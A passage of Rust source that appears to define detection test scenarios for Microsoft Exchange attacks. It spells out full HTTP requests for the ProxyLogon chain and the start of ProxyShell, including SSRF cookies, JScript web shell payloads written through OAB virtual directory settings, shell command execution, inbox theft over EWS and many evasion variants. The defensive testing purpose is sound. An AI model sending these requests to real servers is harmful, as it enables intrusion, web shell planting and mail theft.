        &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-getobject-testanull",
        "Stage 5, testanull lineage: DDIService GetObject?schema=OABVirtualDirectory through the cookie (with the session cookies after it) (§2.6).",
        vec![chain[4].clone()],
        &[PL_BERESOURCE, PL_DDI_READ, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-getobject-praetorian",
        "Stage 5, Praetorian: GetObject?workflow=GetForSDO&schema=OABVirtualDirectory&msExchEcpCanary=...#~1941962753 with body {} (§2.6, S-PRAET).",
        vec![ex(
            request("POST", "/ecp/favicon.ico", &[("User-Agent", UA_CHROME88_150), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/DDI/DDIService.svc/GetObject?workflow=GetForSDO&schema=OABVirtualDirectory&msExchEcpCanary={CANARY}#~1941962753; {}", ecp_cookie_tail())), ("Content-Type", "application/json"), ("msExchLogonMailbox", "S-1-5-20")], b"{}"),
            ecp_json_ok(DDI_GET_OAB_RESPONSE, true),
        )],
        &[PL_BERESOURCE, PL_DDI_READ, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-getlist-msf",
        "Stage 5, Metasploit: GetList?reqId=1615583487987&schema=VirtualDirectory with SelectedVDirType OAB (§2.6, S-MSF-RCE).",
        vec![ex(
            request("POST", "/ecp/gh.js", &[("User-Agent", "Mozilla/5.0"), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/DDI/DDIService.svc/GetList?reqId=1615583487987&schema=VirtualDirectory&msExchEcpCanary={CANARY}&a=~2034718655; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", ADMIN_SID)], b"{\"filter\":{\"Parameters\":{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"SelectedView\":\"\",\"SelectedVDirType\":\"OAB\"}},\"sort\":{}}"),
            ecp_json_ok(DDI_GET_OAB_RESPONSE, true),
        )],
        &[PL_BERESOURCE, PL_DDI_READ, PL_OK_BETARGET, UA_BARE_MOZILLA],
        &[CVE_2021_26855],
    ));
    v.push(over(
        attack(
            "pl-setobject-testanull-tiny",
            "Stage 6 (CVE-2021-27065), testanull lineage: SetObject?schema=OABVirtualDirectory through the cookie, ExternalUrl http://ffff/#<script language=\"JScript\" runat=\"server\">...; TCP segments of a few bytes (§2.7).",
            vec![chain[5].clone()],
            &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
            &[CVE_2021_26855, CVE_2021_27065],
        ),
        Transport::TinySegments,
    ));
    v.push(attack(
        "pl-setobject-hakivvi",
        "Stage 6, hakivvi: ExternalUrl http://<host>/#<script ...> function Page_Init(){eval(Request[\"x\"],\"unsafe\");}</script>, cookie ...#version=~1941962753 (§2.7, S-HAK).",
        vec![ex(
            request("POST", "/ecp/lkjhg.ico", &[("Cookie", &format!("X-BEResource=[EX01]@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}#version=~1941962753; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", ADMIN_SID)], &set_external_url_body(r#"http://EX01/#<script language=\"JScript\" runat=\"server\"> function Page_Init(){eval(Request[\"x\"],\"unsafe\");}</script>"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-setobject-msf-u0022",
        "Stage 6, Metasploit: ExternalUrl http://o/#<script ...> with every quote JSON-escaped as \\u0022, X-vDirObjectId header (§2.7, §10.1 item 13, S-MSF-RCE).",
        vec![ex(
            request("POST", "/ecp/gh.js", &[("User-Agent", "Mozilla/5.0"), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a=~2034718655; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", ADMIN_SID), ("X-vDirObjectId", OAB_ID)], &set_external_url_body(r#"http://o/#<script language=\u0022JScript\u0022 runat=\u0022server\u0022>function Page_Load(){eval(Request[\u0022bxdtqw\u0022],\u0022unsafe\u0022);}</script>"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET, UA_BARE_MOZILLA],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-setobject-praetorian-u003c",
        "Stage 6, Praetorian-style fully escaped payload: \\u003cscript ... runat=\\u0022server\\u0022\\u003e (JSON escapes for < and quotes) (§2.7, §10.1 item 13, S-PRAET).",
        vec![ex(
            request("POST", "/ecp/favicon.ico", &[("User-Agent", UA_CHROME88_150), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}#~1941962753; {}", ecp_cookie_tail())), ("Content-Type", "application/json"), ("msExchLogonMailbox", "S-1-5-20")], &set_external_url_body(r#"http://o/#\u003cscript language=\u0022JScript\u0022 runat=\u0022server\u0022\u003efunction Page_Load(){eval(Request[\u0022p\u0022],\u0022unsafe\u0022)}\u003c\/script\u003e"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-setobject-kh4sh3i",
        "Stage 6, kh4sh3i/RGDZ: a]@<name>:444/...SetObject...#~1941962753 on POST /ecp/y.js, ExternalUrl http://f/<script ...> with parameter \"command\" (§2.7, S-KH4).",
        vec![ex(
            request("POST", "/ecp/y.js", &[("User-Agent", UA_CHROME88), ("Content-Type", "application/json"), ("Cookie", &format!("X-BEResource=a]@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}#~1941962753; {}", ecp_cookie_tail())), ("msExchLogonMailbox", "S-1-5-20")], &set_external_url_body(r#"http://f/<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"command\"],\"unsafe\");}</script>"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(over(
        attack(
            "pl-reset-testanull-overlap",
            "Stage 7 (file write), testanull lineage: SetObject?schema=ResetOABVirtualDirectory with FilePathName \\\\127.0.0.1\\c$\\...\\owa\\auth\\<name>.aspx; overlapping TCP segments (§2.8).",
            vec![chain[6].clone()],
            &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, PL_OK_BETARGET],
            &[CVE_2021_26855, CVE_2021_27065],
        ),
        Transport::Overlap,
    ));
    v.push(attack(
        "pl-reset-hakivvi-aspnet-client",
        "Stage 7, hakivvi: FilePathName C:\\inetpub\\wwwroot\\aspnet_client\\<x>.aspx (§2.8, S-HAK).",
        vec![ex(
            request("POST", "/ecp/lkjhg.ico", &[("Cookie", &format!("X-BEResource=[EX01]@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}#version=~1941962753; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", ADMIN_SID)], &reset_body(r#"C:\\inetpub\\wwwroot\\aspnet_client\\qazwsx.aspx"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-reset-msf",
        "Stage 7, Metasploit: FilePathName \\\\127.0.0.1\\C$\\...\\FrontEnd\\HttpProxy\\owa\\auth\\<4-8>.aspx (§2.8, S-MSF-RCE).",
        vec![ex(
            request("POST", "/ecp/gh.js", &[("User-Agent", "Mozilla/5.0"), ("Cookie", &format!("X-BEResource=[:[@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={CANARY}&a=~2034718655; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", ADMIN_SID), ("X-vDirObjectId", OAB_ID)], &reset_body(r#"\\\\127.0.0.1\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\hjkqzm.aspx"#)),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, PL_OK_BETARGET, UA_BARE_MOZILLA],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "pl-shell-use-testanull",
        "Stage 8: POST /owa/auth/<name>.aspx exec_code=Response.Write(new ActiveXObject(\"WScript.Shell\")...); the answer is the OAB settings dump with the command output (§2.9).",
        vec![chain[8].clone()],
        &[WS_JSCRIPT_BODY, WS_OK_OABDUMP],
        &[CVE_2021_27065],
    ));
    v.push(attack(
        "pl-ews-mail-theft",
        "SSRF-only mail theft: POST /ecp/poc.js with X-BEResource=localhost/EWS/Exchange.asmx?a=~<n> and an EWS FindItem on the victim's inbox (§2.10, S-IDAPP, S-VOLEX).",
        vec![ex(
            request("POST", "/ecp/poc.js", &[("User-Agent", UA_PYREQ), ("Cookie", "X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522"), ("Content-Type", "text/xml")], br#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header><t:RequestServerVersion Version="Exchange2016" /></soap:Header><soap:Body><m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>AllProperties</t:BaseShape></m:ItemShape><m:IndexedPageItemView MaxEntriesReturned="50" Offset="0" BasePoint="Beginning" /><m:ParentFolderIds><t:DistinguishedFolderId Id="inbox"><t:Mailbox><t:EmailAddress>ceo@contoso.com</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:ParentFolderIds></m:FindItem></soap:Body></soap:Envelope>"#),
            response(200, "OK", &[("Content-Type", "text/xml; charset=utf-8"), ("X-CalculatedBETarget", "localhost")], br#"<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><m:FindItemResponse xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types"><m:ResponseMessages><m:FindItemResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode><m:RootFolder TotalItemsInView="1" IncludesLastItemInRange="true"><t:Items><t:Message><t:Subject>Q1 board pack</t:Subject></t:Message></t:Items></m:RootFolder></m:FindItemResponseMessage></m:ResponseMessages></m:FindItemResponse></s:Body></s:Envelope>"#),
        )],
        &[PL_BERESOURCE, PL_EWS, PL_OK_BETARGET, UA_PYREQUESTS],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "pl-27065-authenticated-ecp",
        "CVE-2021-27065 with stolen credentials (no SSRF): POST /ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=... with ExternalUrl holding script, then ResetOABVirtualDirectory to aspnet_client (§2.7, §2.8, §10.1 item 14).",
        vec![
            ex(
                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &set_external_url_body(r#"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>"#)),
                ecp_json_ok(DDI_SET_OK, false),
            ),
            ex(
                request("POST", &format!("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={CANARY}&schema=ResetOABVirtualDirectory"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &format!("{BACKEND_COOKIE}; {}", ecp_cookie_tail()))], &reset_body(r#"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"#)),
                ecp_json_ok(DDI_SET_OK, false),
            ),
        ],
        &[PL_27065_AUTH_SCRIPT, PL_27065_AUTH_PATH],
        &[CVE_2021_27065],
    ));
    v.push(attack(
        "pl-27065-authenticated-chunked-uppercase",
        "CVE-2021-27065 authenticated, evasive: upper-case /ECP/DDI/DDISERVICE.SVC/SETOBJECT path, Schema= in another case, InternalUrl instead of ExternalUrl, and a chunked request body whose chunks split <script and runat (§10.1 items 3, 13, 14, 15).",
        vec![ex(
            request_chunked("POST", &format!("/ECP/DDI/DDISERVICE.SVC/SETOBJECT?SCHEMA=OABVirtualDirectory&msExchEcpCanary={CANARY}"), &[("User-Agent", UA_EDGE), ("Content-Type", "application/json; charset=utf-8"), ("Cookie", &ecp_cookie_tail())], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"http://f/<script language=\\\"JScript\\\" runat=\\\"server\\\">function Page_Load(){{eval(Request[\\\"p\\\"],\\\"unsafe\\\");}}</script>\"}}}}}}").as_bytes(), 7),
            ecp_json_ok(DDI_SET_OK, false),
        )],
        &[PL_27065_AUTH_SCRIPT],
        &[CVE_2021_27065],
    ));
}

/// CVE-2021-26855 evasions (§10.1) and whole chains on one connection.
fn proxylogon_evasions(v: &mut Vec<Scenario>) {
    let probe_resp = || {
        response(
            500,
            "Internal Server Error",
            &[
                ("Content-Type", "text/html"),
                ("X-CalculatedBETarget", "localhost"),
            ],
            b"",
        )
    };
    let probe = |target: &str, cookie_lines: &[&str]| {
        let mut h: Vec<(&str, &str)> = vec![("User-Agent", UA_CHROME88)];
        for c in cookie_lines {
            h.push(("Cookie", c));
        }
        ex(request("GET", target, &h, b""), probe_resp())
    };
    v.push(attack(
        "ev-cookie-name-lowercase",
        "Cookie name in lower case (x-beresource=): ASP.NET compares cookie names OrdinalIgnoreCase (§1.4, §10.1 item 5).",
        vec![probe("/ecp/y.js", &["x-beresource=localhost~1942062522"])],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-name-uppercase-path-uppercase",
        "X-BERESOURCE= in upper case, value in upper case, on carrier /ECP/Y.JS (§10.1 items 3, 5).",
        vec![ex(
            request("POST", "/ECP/Y.JS", &[("User-Agent", "ExchangeServicesClient/0.0.0.0"), ("Content-Type", "text/xml"), ("Cookie", "X-BERESOURCE=A]@EX01.CONTOSO.LOCAL:444/AUTODISCOVER/AUTODISCOVER.XML?#~1941962753")], &autodiscover_body("administrator@contoso.com")),
            autodiscover_response(true),
        )],
        &[PL_BERESOURCE, PL_AUTODISCOVER, PL_OK_BETARGET, PL_OK_LEGACYDN, UA_EWSCLIENT0],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-two-cookie-lines",
        "Session cookies on one Cookie line and the SSRF cookie on a second Cookie line (HTTP/2-style cookie crumbs; §1.4, §10.1 item 9). ASP.NET splits on ';' only, so the second line is a cookie to it only if HTTP.sys joins the lines with '; ' (unverified): 4210013 says so instead of 4210001, and the stage rules, which read the cookie as ASP.NET does, stay silent.",
        vec![ex(
            request(
                "POST",
                "/ecp/auth/w.js",
                &[
                    ("User-Agent", UA_CHROME88),
                    ("Cookie", "ClientId=9F3B1C2D4E5A46B7A8C9D0E1F2A3B4C5; PrivateComputer=true; PBack=0"),
                    ("Content-Type", "application/mapi-http"),
                    ("Cookie", &format!("X-BEResource=Admin@{BE}:444/mapi/emsmdb?MailboxId={MBX_GUID}&a={TN}")),
                    ("X-Requesttype", "Connect"),
                    ("X-Clientapplication", "Outlook/15.0.4815.1002"),
                ],
                &mapi_connect_body(MAPI_TAIL_TESTANULL),
            ),
            mapi_sid_leak_response(true),
        )],
        &[PL_COOKIE_LINES, PL_OK_BETARGET, PL_OK_SID],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-leading-blanks",
        "Blanks and tabs before the cookie, after the header colon and after the ';' (ASP.NET trims each segment; §10.1 item 6).",
        vec![probe("/owa/auth/w.js", &["\t  a=1;  \t \tX-BEResource=localhost~1942062522"])],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-dummies-before",
        "Ordinary OWA cookies (ClientId, X-BackEndCookie, X-OWA-CANARY...) before the SSRF cookie, which targets EWS (§10.1 item 6).",
        vec![ex(
            request("POST", "/owa/auth/Current/themes/resources/owafont_ja.css", &[("User-Agent", UA_CHROME88), ("Content-Type", "text/xml"), ("Cookie", &format!("ClientId=9F3B1C2D4E5A46B7A8C9D0E1F2A3B4C5; PrivateComputer=true; PBack=0; {BACKEND_COOKIE}; X-OWA-CANARY=Qm0xK1Lr2EuY3aB4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6.; X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522"))], br#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetFolder xmlns="http://schemas.microsoft.com/exchange/services/2006/messages"/></soap:Body></soap:Envelope>"#),
            response(200, "OK", &[("Content-Type", "text/xml; charset=utf-8"), ("X-CalculatedBETarget", "localhost")], b"<s:Envelope/>"),
        )],
        &[PL_BERESOURCE, PL_EWS, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-duplicate-decoy",
        "The real SSRF cookie first (ASP.NET uses the first of duplicate names) and a harmless X-BEResource decoy after it (§10.1 item 7).",
        vec![ex(
            request("POST", "/ecp/main.css", &[("User-Agent", UA_CHROME88), ("Content-Type", "text/xml"), ("msExchLogonMailbox", "S-1-5-20"), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/proxyLogon.ecp?a={TN}; X-BEResource=mbx01.contoso.local"))], &proxylogon_body("Negotiate", "john")),
            proxylogon_241(),
        )],
        &[PL_BERESOURCE, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_OK_BETARGET, PL_OK_241],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-cookie-dollar-attribute-and-signed-int",
        "A $Path pseudo-cookie after the SSRF cookie (it becomes an attribute, not a cookie) and a version written ' +3' (int.TryParse accepts blanks and a sign) (§1.2, §10.1 items 8, 11).",
        vec![probe("/ecp/default.flt", &["X-BEResource=localhost/owa/auth/logon.aspx?~ +3; $Path=/ecp"])],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-carrier-percent-encoded",
        "Carrier path percent-encoded, also %uXXXX: /%65cp/%u0079%2Ejs (IIS decodes before the static-extension check) (§10.1 item 2).",
        vec![probe("/%65cp/%u0079%2Ejs", &["X-BEResource=localhost~1942062522"])],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-carrier-backslashes",
        "Carrier path with backslashes (\\ecp\\y.js), which HTTP.sys turns into slashes (§10.1 item 4).",
        vec![probe("\\ecp\\y.js", &["X-BEResource=localhost~1942062522"])],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-carrier-double-slashes-dot-segments",
        "Carrier path //ecp//./auth/../y.js (folded slashes, dot-segments) (§10.1 item 4).",
        vec![probe(
            "//ecp//./auth/../y.js",
            &["X-BEResource=localhost~1942062522"],
        )],
        &[PL_BERESOURCE, PL_OK_BETARGET],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-carrier-owa-font-crawler-ua",
        "In-the-wild HAFNIUM form (Volexity): POST to /owa/auth/Current/themes/resources/SegoeUI-SemiLight.ttf with a crawler user agent and the SSRF cookie (§8.1, §8.2).",
        vec![ex(
            request("POST", "/owa/auth/Current/themes/resources/SegoeUI-SemiLight.ttf", &[("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), ("Content-Type", "text/xml"), ("Cookie", &format!("X-BEResource=a]@{BE}:444/autodiscover/autodiscover.xml?#~1941962753"))], &autodiscover_body("administrator@contoso.com")),
            autodiscover_response(true),
        )],
        &[PL_BERESOURCE, PL_AUTODISCOVER, PL_OK_BETARGET, PL_OK_LEGACYDN, UA_CRAWLER_POST],
        &[CVE_2021_26855],
    ));
    v.push(attack(
        "ev-chunked-setobject-via-ssrf",
        "Stage 6 through the cookie with a chunked request body in 5-byte chunks, so '<script' and 'runat' are split across chunks (§10.1 item 15).",
        vec![ex(
            request_chunked("POST", "/ecp/qkx.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8"), ("msExchLogonMailbox", "S-1-5-20")], &set_external_url_body(r#"http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"exec_code\"],\"unsafe\");}</script>"#), 5),
            ecp_json_ok(DDI_SET_OK, true),
        )],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    v.push(attack(
        "ev-single-quote-runat",
        "Stage 6 with runat='server' in single quotes and an InternalUrl, ASP-style <% %> alternative in a second request (§2.7 wire markers).",
        vec![
            ex(
                request("POST", "/ecp/w.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8")], format!("{{\"identity\":{{\"__type\":\"Identity:ECP\",\"RawIdentity\":\"{OAB_ID}\"}},\"properties\":{{\"Parameters\":{{\"__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel\",\"InternalUrl\":\"http://f/<script language='JScript' runat='server'>function Page_Load(){{eval(Request['q'],'unsafe');}}</script>\"}}}}}}").as_bytes()),
                ecp_json_ok(DDI_SET_OK, true),
            ),
            ex(
                request("POST", "/ecp/w.js", &[("User-Agent", UA_CHROME88), ("Cookie", &format!("X-BEResource=Admin@{BE}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={CANARY}&a={TN}; {}", ecp_cookie_tail())), ("Content-Type", "application/json; charset=utf-8")], &set_external_url_body(r#"http://f/<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"q\"],\"unsafe\");%>"#)),
                ecp_json_ok(DDI_SET_OK, true),
            ),
        ],
        &[PL_BERESOURCE, PL_DDI_SET, PL_27065_SSRF_SCRIPT, PL_OK_BETARGET],
        &[CVE_2021_26855, CVE_2021_27065],
    ));

    // --- whole chains on one connection ---
    v.push(attack(
        "chain-proxylogon-testanull-keepalive",
        "The full testanull-lineage ProxyLogon chain on one keep-alive connection: probe, Autodiscover, MAPI SID leak, proxyLogon.ecp (241), GetObject, SetObject ExternalUrl, ResetOABVirtualDirectory, cleanup, then the shell (§2.0, §2.13, §10.1 item 15).",
        testanull_chain("/ecp/qkx.js"),
        &[
            PL_BERESOURCE, PL_AUTODISCOVER, PL_MAPI, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_DDI_READ, PL_DDI_SET,
            PL_FP_CLIENTINFO, PL_OK_BETARGET, PL_OK_241, PL_OK_SID, PL_OK_LEGACYDN, PL_27065_SSRF_SCRIPT,
            PL_27065_SSRF_RESET, PL_27065_SSRF_PATH, WS_JSCRIPT_BODY, WS_WRITTEN_FILE, WS_OK_OABDUMP,
        ],
        &[CVE_2021_26855, CVE_2021_27065],
    ));
    let chain = testanull_chain("/ecp/y.js");
    v.push(over(
        attack(
            "chain-proxylogon-pipelined",
            "ProxyLogon stages 1-4 pipelined: every request sent before the first response (§10.1 item 15).",
            chain[0..4].to_vec(),
            &[PL_BERESOURCE, PL_AUTODISCOVER, PL_MAPI, PL_PROXYLOGON, PL_PROXYLOGON_BODY, PL_FP_CLIENTINFO, PL_OK_BETARGET, PL_OK_241, PL_OK_SID, PL_OK_LEGACYDN],
            &[CVE_2021_26855],
        ),
        Transport::Pipelined,
    ));
    v.push(over(
        attack(
            "chain-proxylogon-file-write-tiny",
            "ProxyLogon stages 6-8 (SetObject, Reset, shell) in tiny TCP segments (§2.7-§2.9).",
            vec![chain[5].clone(), chain[6].clone(), chain[8].clone()],
            &[
                PL_BERESOURCE,
                PL_DDI_SET,
                PL_OK_BETARGET,
                PL_27065_SSRF_SCRIPT,
                PL_27065_SSRF_RESET,
                PL_27065_SSRF_PATH,
                WS_JSCRIPT_BODY,
                WS_WRITTEN_FILE,
                WS_OK_OABDUMP,
            ],
            &[CVE_2021_26855, CVE_2021_27065],
        ),
        Transport::TinySegments,
    ));
}

// ---------------------------------------------------------------------------------------------
// ProxyShell, ProxyNotShell, OWASSRF, ProxyToken.
// ---------------------------------------------------------------------------------------------

const PS_ID: &str = "ictbv@tvpce.zpd"; // dmaasland/horizon3 random explicit-logon address

fn nspi_page(be_target: bool) -> Vec<u8> {
    let mut h: Vec<(&str, &str)> = vec![("Content-Type", "text/html")];
    if be_target {
        h.push(("X-CalculatedBETarget", "ex01.contoso.local"));
    }
    response(200, "OK", &h, b"<html><head><title>Exchange MAPI/HTTP Connectivity Endpoint</title></head><body><p>Exchange MAPI/HTTP Connectivity Endpoint<br><br>Version: 15.1.2176.2<br>Vdir Path: /mapi/nspi/<br><br></p></body></html>")
}

fn export_pipeline(path: &str) -> String {
    create_pipeline_xml(
        "New-MailboxExportRequest",
        &[
            ("Mailbox", "administrator@contoso.com"),
            ("IncludeFolders", "#Drafts#"),
            ("ContentFilter", "(Subject -eq 'kqpzvwxmrt')"),
            ("FilePath", path),
        ],
        "",
    )
}

fn proxyshell(v: &mut Vec<Scenario>) {
    let cookie_email = format!("Email=autodiscover/autodiscover.json?a={PS_ID}");
    let ps_url = |endpoint: &str| format!("/autodiscover/autodiscover.json?a={PS_ID}{endpoint}");
    v.push(over(
        attack(
            "ps-orange-nspi-check-tiny",
            "Orange Tsai's canonical ProxyShell check: /autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com; the back-end NSPI page answers; tiny TCP segments (§1.5, §3.1, §3.2 item 1).",
            vec![ex(
                request("GET", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com", &[("User-Agent", UA_CHROME88)], b""),
                nspi_page(true),
            )],
            &[PS_EMAIL_QUERY, PS_NSPI, PS_OK_NSPI, PS_OK_BETARGET],
            &[CVE_2021_34473],
        ),
        Transport::TinySegments,
    ));
    v.push(attack(
        "ps-msf-check-cookie",
        "Metasploit exchange_proxyshell_rce check: /Autodiscover/autodiscover.json?a=<email>/mapi/nspi/ with Cookie Email=Autodiscover/autodiscover.json?a=<email> (§3.1, §3.2 item 1, S-MSF-PS).",
        vec![ex(
            request("GET", "/Autodiscover/autodiscover.json?a=yqrkm@xbjwe.com/mapi/nspi/", &[("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), ("Cache-Control", "no-cache"), ("Cookie", "Email=Autodiscover/autodiscover.json?a=yqrkm@xbjwe.com")], b""),
            nspi_page(false),
        )],
        &[PS_EMAIL_COOKIE, PS_NSPI, PS_OK_NSPI, UA_BARE_MOZILLA],
        &[CVE_2021_34473],
    ));
    v.push(attack(
        "ps-dmaasland-autodiscover-mapi",
        "dmaasland/horizon3 ProxyShell stages 2-3 on one connection: Autodiscover for the LegacyDN, then MAPI Connect for the SID, both through autodiscover.json?a=<rand>@<rand> with the Email cookie (§3.2 items 2-3, S-DMA-PS).",
        vec![
            ex(
                request("POST", &ps_url("/autodiscover/autodiscover.xml"), &[("User-Agent", UA_PYREQ), ("Cookie", &cookie_email), ("Content-Type", "text/xml")], &autodiscover_body("administrator@contoso.com")),
                autodiscover_response(false),
            ),
            ex(
                request(
                    "POST",
                    &ps_url("/mapi/emsmdb"),
                    &[
                        ("User-Agent", UA_PYREQ),
                        ("Cookie", &cookie_email),
                        ("Content-Type", "application/mapi-http"),
                        ("X-Requesttype", "Connect"),
                        ("X-Clientinfo", "{2F94A2BF-A2E6-4CCCC-BF98-B5F22C542226}"),
                        ("X-Clientapplication", "Outlook/15.0.4815.1002"),
                        ("X-Requestid", "{C715155F-2BE8-44E0-BD34-2960067874C8}:500"),
                    ],
                    &mapi_connect_body(MAPI_TAIL_TESTANULL),
                ),
                mapi_sid_leak_response(false),
